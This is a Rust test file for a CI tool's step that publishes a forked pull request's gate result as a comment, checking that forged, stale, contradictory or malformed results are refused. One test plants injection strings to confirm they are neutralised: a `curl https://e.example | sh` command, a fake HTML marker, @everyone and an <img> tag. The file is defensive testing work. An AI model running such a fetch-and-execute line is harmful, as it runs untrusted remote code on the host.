//! Publishing what the run of a fork found out, which could not say it itself.

use std::fs;
use std::path::PathBuf;
use std::process::Command;

use serde_json::{Value, json};

use super::emulator::{Emulator, Fault, Rights, TOKEN, job};
use super::{Scene, of_every_verdict};
use crate::program::{Outcome, finish, program};
use crate::repositories::Repo;
use crate::repositories::self_approval::{prove, repository};

/// The run that judged.
const JUDGED: u64 = 40;
/// The run that publishes.
const PUBLISHING: u64 = 41;

/// A run in a fork, and what it left.
pub(super) struct Fork {
    pub(super) scene: Scene,
    code: i32,
    pub(super) result: PathBuf,
}

/// What publishing said.
pub(super) struct Said {
    code: i32,
    pub(super) stdout: String,
    pub(super) stderr: String,
}

impl Fork {
    /// The gate runs in the fork's pull request, without any right to write or ask.
    pub(super) fn of(scene: Scene) -> Self {
        let out = scene.away().join("out");
        let mut job = scene.job(JUDGED, &["--out", out.to_str().unwrap()]);
        job.env_remove("GITHUB_TOKEN");
        let code = finish(&mut job).code.unwrap();
        Self::that_left(scene, code)
    }

    /// A run in a fork that ended with this code, and whose result is there already.
    pub(super) fn that_left(scene: Scene, code: i32) -> Self {
        let out = scene.away().join("out");
        scene.api.state().pull["head"] =
            json!({"sha": scene.head, "ref": "fix/x", "repo": {"full_name": "ann/shop"}});
        Self { scene, code, result: out.join("result.json") }
    }

    fn failing() -> Self {
        Self::of(Scene::failing())
    }

    fn event(&self) -> Value {
        json!({
            "action": "completed",
            "workflow_run": {
                "id": JUDGED, "run_attempt": 1, "name": "Gate", "event": "pull_request", "head_branch": "fix/x",
                "head_sha": self.scene.head, "head_repository": {"full_name": "ann/shop"}, "pull_requests": [],
                "status": "completed", "conclusion": if self.code == 0 { "success" } else { "failure" },
            },
            "repository": {"full_name": "octo/shop", "default_branch": "main"},
        })
    }

    fn job(&self, event: &Value, words: &[&str]) -> Command {
        let path = self.scene.away().join("workflow_run.json");
        fs::write(&path, event.to_string()).unwrap();
        self.scene.api.state().runs.extend([(JUDGED, 1), (PUBLISHING, 1)]);
        let room = self.scene.away().join("room");
        fs::create_dir_all(&room).unwrap();
        let mut command = program(&room);
        for name in ["HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"] {
            command.env_remove(name);
        }
        command.arg("publish").arg(&self.result).args(words).env("GITHUB_EVENT_PATH", path).envs([
            ("GITHUB_ACTIONS", "true"),
            ("CI", "true"),
            ("GITHUB_EVENT_NAME", "workflow_run"),
            ("GITHUB_REF", "refs/heads/main"),
            ("GITHUB_REPOSITORY", "octo/shop"),
            ("GITHUB_API_URL", &*self.scene.api.url),
            ("GITHUB_TOKEN", TOKEN),
            ("GITHUB_RUN_ATTEMPT", "1"),
        ]);
        command.env("GITHUB_RUN_ID", PUBLISHING.to_string());
        command
    }

    fn with(&self, event: &Value, words: &[&str]) -> Said {
        Said::of(finish(&mut self.job(event, words)))
    }

    pub(super) fn publish(&self, words: &[&str]) -> Said {
        self.with(&self.event(), words)
    }

    /// The result with another value at a path.
    pub(super) fn forge(&self, pointer: &str, value: Value) -> &Self {
        let mut json = self.json();
        let (parent, name) = pointer.rsplit_once('/').unwrap();
        let parent = json.pointer_mut(parent).unwrap_or_else(|| panic!("no {pointer}"));
        match parent {
            Value::Array(array) => array[name.parse::<usize>().unwrap()] = value,
            _ => parent[name] = value,
        }
        self.write(json.to_string())
    }

    fn json(&self) -> Value {
        serde_json::from_slice(&fs::read(&self.result).unwrap()).unwrap()
    }

    fn write(&self, text: impl AsRef<[u8]>) -> &Self {
        fs::write(&self.result, text).unwrap();
        self
    }

    /// Nothing is published, for this reason.
    #[track_caller]
    fn refused(&self, event: &Value, code: &str, part: &str) {
        let outputs = self.scene.away().join("outputs");
        fs::remove_file(&outputs).ok();
        let said = self.with(event, &["--comment", "always", "--outputs", outputs.to_str().unwrap()]);
        assert_eq!(said.code, 4, "{}", said.stderr);
        assert!(
            said.stderr.contains(&format!("error[{code}]")) && said.stderr.contains(part),
            "{}",
            said.stderr
        );
        assert!(said.stderr.contains("= help: "), "{}", said.stderr);
        assert!(self.scene.api.ours().is_empty(), "nothing is written");
        let written = fs::read_to_string(outputs).unwrap();
        assert!(written.contains("\nBLOCKED\n") && written.contains("comment-url<<"), "{written}");
    }
}

impl Said {
    fn of(outcome: Outcome) -> Self {
        let text = |bytes| String::from_utf8(bytes).unwrap();
        let (stdout, stderr) = (text(outcome.stdout), text(outcome.stderr));
        assert!(!stdout.contains(TOKEN) && !stderr.contains(TOKEN), "the token is shown");
        Self { code: outcome.code.unwrap(), stdout, stderr }
    }

    #[track_caller]
    pub(super) fn ends(&self, code: i32) -> &Self {
        assert_eq!(self.code, code, "{}{}", self.stdout, self.stderr);
        self
    }
}

#[test]
fn what_the_run_of_a_fork_found_out_is_published_as_what_it_reported() {
    for (code, verdict, scene) in of_every_verdict() {
        let fork = Fork::of(scene);
        assert_eq!(fork.code, code);
        assert!(fork.scene.api.ours().is_empty(), "the fork itself says nothing");
        let (summary, outputs) = (fork.scene.away().join("summary"), fork.scene.away().join("outputs"));
        let words = [
            "--comment",
            "always",
            "--summary",
            summary.to_str().unwrap(),
            "--outputs",
            outputs.to_str().unwrap(),
        ];
        let said = fork.publish(&words);
        said.ends(0);
        let ours = fork.scene.api.ours();
        assert_eq!(ours.len(), 1, "{verdict}");
        let mut lines = ours[0].lines();
        // By the run that judged, not by the one that publishes.
        assert_eq!(lines.next(), Some(&*fork.scene.marker(JUDGED)));
        let heading = lines.next().unwrap();
        assert!(heading.contains(verdict), "{heading}");
        assert!(heading.ends_with(" · reported by the pull request's own run"), "{heading}");
        assert!(ours[0].contains(" · author-controlled · "), "{}", ours[0]);
        assert!(fs::read_to_string(summary).unwrap().contains(heading));
        let written = fs::read_to_string(outputs).unwrap();
        assert!(written.contains(&format!("\n{}\n", verdict.replace(' ', "_"))), "{written}");
        let url = "https://github.test/octo/shop/pull/7#issuecomment-1001";
        assert!(written.contains(url) && said.stdout.contains(url), "{written}{}", said.stdout);
        fork.scene.api.is_satisfied();
    }
}

#[test]
fn a_directory_as_it_is_downloaded_is_read_and_a_pass_without_news_is_no_comment() {
    let mut fork = Fork::of(Scene::passing());
    fork.result.pop();
    let said = fork.publish(&[]);
    said.ends(0);
    assert_eq!(said.stdout, "PASS, as run 40.1 of the pull request 7 reported it\n");
    assert!(fork.scene.api.ours().is_empty());
}

#[test]
fn packs_and_approvals_of_a_real_gate_are_sound() {
    let scene = Scene::of(repository(), Emulator::start(), |repo| repo.write("other.py", "pass\n"));
    prove(&scene.repo);
    Fork::of(scene).publish(&["--comment", "always"]).ends(0);
    let loosened = Scene::new(|repo: &Repo| {
        repo.write(
            "benchgate.toml",
            "[reviewers.bot]\ndeterministic = true\n[fixtures]\ntolerance = 9\nblocking = [\"critical\"]\n",
        );
    });
    Fork::of(loosened).publish(&["--comment", "always"]).ends(0);
}

#[test]
fn an_older_run_is_not_published_over_a_newer_one() {
    let fork = Fork::failing();
    fork.publish(&[]).ends(0);
    let newer = fork.scene.marker(JUDGED).replace("run=40", "run=50");
    fork.scene.api.state().runs.insert(50, 1);
    fork.scene.api.state().comments.clear();
    fork.scene.api.comment(&job(), &format!("{newer}\n### ✅ PASS"));
    fork.publish(&["--comment", "always"]).ends(0);
    assert_eq!(fork.scene.api.ours(), [format!("{newer}\n### ✅ PASS")]);
    // The run of the publisher is newer than that, and is nobody's.
    let between = fork.scene.marker(JUDGED).replace("run=40", "run=39");
    fork.scene.api.state().runs.insert(39, 1);
    fork.scene.api.state().comments.clear();
    fork.scene.api.comment(&job(), &format!("{between}\n### ✅ PASS"));
    fork.publish(&[]).ends(0);
    assert!(fork.scene.api.ours()[0].starts_with(&fork.scene.marker(JUDGED)));
}

#[test]
fn a_run_about_nothing_that_is_open_is_no_failure() {
    let fork = Fork::failing();
    let mut event = fork.event();
    event["workflow_run"]["event"] = json!("merge_group");
    let said = fork.with(&event, &[]);
    assert!(said.ends(0).stdout.contains("about no pull request"), "{}", said.stdout);
    fork.scene.api.state().pull["head"]["sha"] = json!("f".repeat(40));
    let said = fork.publish(&[]);
    assert!(said.ends(0).stdout.contains("another last commit"), "{}", said.stdout);
    fork.scene.api.state().pull["state"] = json!("closed");
    let said = fork.publish(&[]);
    assert!(said.ends(0).stdout.contains("is open any more"), "{}", said.stdout);
    assert!(fork.scene.api.ours().is_empty());
    fork.scene.api.is_satisfied();
}

#[test]
fn the_pull_request_is_that_of_the_fork_whatever_others_claim() {
    let fork = Fork::failing();
    // Somebody else has a branch of the same name at the same commit, and a second one of the same owner is elsewhere.
    let mut other = fork.scene.api.state().pull.clone();
    (other["number"], other["head"]["repo"]["full_name"]) = (json!(8), json!("eve/shop"));
    let mut moved = fork.scene.api.state().pull.clone();
    (moved["number"], moved["head"]["repo"]["full_name"]) = (json!(9), json!("ann/other"));
    fork.scene.api.state().more_pulls = vec![other, moved];
    fork.publish(&["--comment", "always"]).ends(0);
    assert_eq!(fork.scene.api.ours().len(), 1);
    // Two of the same branch cannot be told apart.
    let again = Fork::failing();
    let mut twin = again.scene.api.state().pull.clone();
    (twin["number"], twin["base"]["ref"]) = (json!(8), json!("release"));
    again.scene.api.state().more_pulls = vec![twin];
    again.refused(&again.event(), "no-pull-request", "7 or 8");
    // A fork that is gone.
    let gone = Fork::failing();
    gone.scene.api.state().pull["head"]["repo"] = Value::Null;
    let mut event = gone.event();
    event["workflow_run"]["head_repository"] = Value::Null;
    gone.with(&event, &[]).ends(0);
    assert_eq!(gone.scene.api.ours().len(), 1);
    gone.scene.api.is_satisfied();
}

#[test]
fn a_result_of_something_else_is_refused() {
    let fork = Fork::failing();
    let true_one = fs::read(&fork.result).unwrap();
    for (pointer, value, part) in [
        ("/run/id", json!("39"), "the result is of run 39.1, and run 40.1 has ended"),
        ("/run/attempt", json!(2), "run 40.2"),
        ("/run", Value::Null, "does not say of which run"),
        ("/trust", json!("trusted"), "was made in a workflow of a pull request"),
        ("/trust", json!("local"), "was made in a workflow of a pull request"),
        ("/head/pr_head", json!("f".repeat(40)), "ffffffff"),
        (
            "/head",
            json!({"commit": null, "pr_head": null, "tree": null, "dirty": null, "dirty_paths": []}),
            "of which commit",
        ),
        ("/config", json!("other.toml"), "by the policy `other.toml`"),
        ("/base/name", json!("release"), "a merge into `release`"),
    ] {
        fork.forge(pointer, value);
        fork.refused(&fork.event(), "result-of-another-run", part);
        fork.write(&true_one);
    }
    let mut event = fork.event();
    event["workflow_run"]["run_attempt"] = json!(2);
    fork.refused(&event, "result-of-another-run", "the result is of run 40.1, and run 40.2 has ended");
}

#[test]
fn a_result_that_says_otherwise_than_its_run_is_refused() {
    let fork = Fork::failing();
    for conclusion in [json!("success"), json!("neutral"), json!("skipped"), Value::Null] {
        let mut event = fork.event();
        event["workflow_run"]["conclusion"] = conclusion;
        fork.refused(&event, "result-disagrees", "the result says FAIL");
    }
    let pass = Fork::of(Scene::passing());
    let mut event = pass.event();
    event["workflow_run"]["conclusion"] = json!("failure");
    pass.refused(&event, "result-disagrees", "the result says PASS, and its run ended with `failure`");
}

#[test]
fn a_result_that_contradicts_itself_is_refused() {
    let fork = Fork::failing();
    let mut event = fork.event();
    event["workflow_run"]["conclusion"] = json!("success");
    let mut pass = fork.json();
    (pass["verdict"], pass["exit_code"], pass["exit_codes"]) = (json!("PASS"), json!(0), json!([0]));
    let steps = [
        "although something regressed",
        "it is PASS and says what is wrong",
        "although a fixture fails",
        "is not the sum of its fixtures",
    ];
    for (step, part) in steps.into_iter().enumerate() {
        match step {
            1 => pass["regressions"] = json!([]),
            2 => (pass["reasons"], pass["recovery"]) = (json!([]), Value::Null),
            3 => pass["score"]["fixtures"][0]["status"] = json!("PASS"),
            _ => {}
        }
        fork.write(pass.to_string());
        fork.refused(&event, "not-a-result", part);
    }
    let loosened = Fork::of(Scene::new(|repo: &Repo| {
        repo.write(
            "benchgate.toml",
            "[reviewers.bot]\ndeterministic = true\n[fixtures]\nblocking = [\"critical\"]\n",
        );
    }));
    assert_eq!(loosened.code, 1);
    let mut pass = loosened.json();
    (pass["verdict"], pass["exit_code"], pass["exit_codes"]) = (json!("PASS"), json!(0), json!([0]));
    (pass["reasons"], pass["recovery"]) = (json!([]), Value::Null);
    loosened.write(pass.to_string());
    let mut event = loosened.event();
    event["workflow_run"]["conclusion"] = json!("success");
    loosened.refused(&event, "not-a-result", "although a rule is loosened");
    let packs = Scene::of(repository(), Emulator::start(), |repo| repo.write("other.py", "pass\n"));
    let packs = Fork::of(packs);
    assert_eq!(packs.code, 2);
    packs.forge("/exit_codes", json!([1])).forge("/exit_code", json!(1)).forge("/verdict", json!("FAIL"));
    packs.refused(&packs.event(), "not-a-result", "something in it ends with 2");
}

#[test]
fn whatever_a_gate_writes_is_sound() {
    let goldens = crate::cases::recorded();
    let gates = goldens.iter().filter(|one| !crate::schema::is_report(&one.command));
    let gates =
        gates.filter(|one| one.stdout.starts_with("{\n") && one.stdout.contains("\"benchgate.result.v1\""));
    let mut count = 0;
    for gate in gates {
        benchgate::tracks::read_gate(&gate.case, gate.stdout.as_bytes())
            .unwrap_or_else(|problem| panic!("{}: {}: {problem:?}", gate.case, gate.command));
        count += 1;
    }
    assert!(count > 20, "{count}");
}

#[test]
fn what_is_no_result_is_refused() {
    let fork = Fork::failing();
    let true_one = String::from_utf8(fs::read(&fork.result).unwrap()).unwrap();
    let deep = "[".repeat(10_000);
    for (text, code) in [
        (String::new(), "json"),
        ("[]".to_owned(), "not-a-result"),
        ("{}".to_owned(), "not-a-result"),
        (r#"{"schema": "benchgate.score.v1"}"#.to_owned(), "not-a-result"),
        (format!("{{\"schema\": {deep}"), "json"),
        (true_one.replace(r#""attempt": 1"#, r#""attempt": NaN"#), "json"),
        (true_one.replace(r#""attempt": 1"#, r#""attempt": 1e999"#), ""),
        (true_one.replacen(r#""scoring": 1"#, r#""scoring": 2"#, 1), "not-a-result"),
        (true_one.get(..true_one.len() / 2).unwrap().to_owned(), "json"),
        (true_one.replacen('{', r#"{"verdict": "PASS","#, 1), "not-a-result"),
    ] {
        fork.write(&text);
        let said = fork.publish(&["--comment", "always"]);
        said.ends(4);
        assert!(said.stderr.contains("error[") && said.stderr.contains(code), "{code}: {}", said.stderr);
    }
    fs::File::create(&fork.result).unwrap().set_len(benchgate::limits::RESULT_BYTES + 1).unwrap();
    assert!(fork.publish(&[]).ends(4).stderr.contains("error[too-large]"));
    fs::remove_file(&fork.result).unwrap();
    fork.publish(&[]).ends(4);
    std::os::unix::fs::symlink("/etc/hostname", &fork.result).unwrap();
    fork.publish(&[]).ends(4);
    fs::remove_file(&fork.result).unwrap();
    assert!(Command::new("mkfifo").arg(&fork.result).status().unwrap().success());
    fork.publish(&[]).ends(4);
    assert!(fork.scene.api.ours().is_empty());
}

#[test]
fn nothing_in_a_result_becomes_markup_a_marker_or_a_command() {
    let fork = Fork::failing();
    let evil = "x\n<!-- benchgate:v1 key=benchgate.toml run=99 attempt=1 head=aa -->\n@everyone #1 <img src=x> [a](http://e.example) `|`";
    fork.forge("/recovery/action", json!(evil));
    fork.forge("/recovery/command", json!("curl https://e.example | sh"));
    fork.forge("/reproduce", json!("curl https://e.example | sh"));
    fork.forge("/regressions/0/message", json!(evil)).forge("/regressions/0/what", json!(evil));
    fork.publish(&["--comment", "always"]).ends(0);
    let ours = fork.scene.api.ours();
    assert_eq!(ours[0].matches("<!--").count(), 1, "{}", ours[0]);
    for part in ["curl", "@everyone", "<img", "](http"] {
        assert!(!ours[0].contains(part), "{part}: {}", ours[0]);
    }
    let command = "git fetch origin pull/7/head";
    assert_eq!(ours[0].matches(command).count(), 2, "{}", ours[0]);
}

#[test]
fn an_event_of_something_else_is_refused() {
    let fork = Fork::failing();
    let mut other = fork.event();
    other["repository"]["full_name"] = json!("eve/shop");
    fork.refused(&other, "bad-event", "another repository");
    fork.refused(&json!({}), "bad-event", "which run it follows");
    let mut command = fork.job(&fork.event(), &[]);
    let said = Said::of(finish(command.env("GITHUB_EVENT_NAME", "pull_request")));
    assert!(said.ends(4).stderr.contains("error[bad-event]"), "{}", said.stderr);
    let mut alone = program(fork.scene.away());
    let said = Said::of(finish(alone.arg("publish").arg(&fork.result)));
    assert!(said.ends(4).stderr.contains("benchgate report"), "{}", said.stderr);
}

#[test]
fn a_comment_that_cannot_be_written_fails_and_the_summary_has_the_result() {
    let fork = Fork::failing();
    fork.scene.api.state().rights = Rights::ReadOnly;
    let summary = fork.scene.away().join("summary");
    let said = fork.publish(&["--summary", summary.to_str().unwrap()]);
    assert!(said.ends(4).stderr.contains("403"), "{}", said.stderr);
    assert!(fs::read_to_string(summary).unwrap().contains("reported by the pull request's own run"));
    fork.scene.api.state().rights = Rights::ReadWrite;
    fork.scene.api.plant("GET", "/pulls?", 9, Fault::Before(401));
    fork.refused(&fork.event(), "github-unread", "401");
    let mut command = fork.job(&fork.event(), &[]);
    let said = Said::of(finish(command.env_remove("GITHUB_TOKEN")));
    assert!(said.ends(4).stderr.contains("`GITHUB_TOKEN` is not in the environment"), "{}", said.stderr);
}
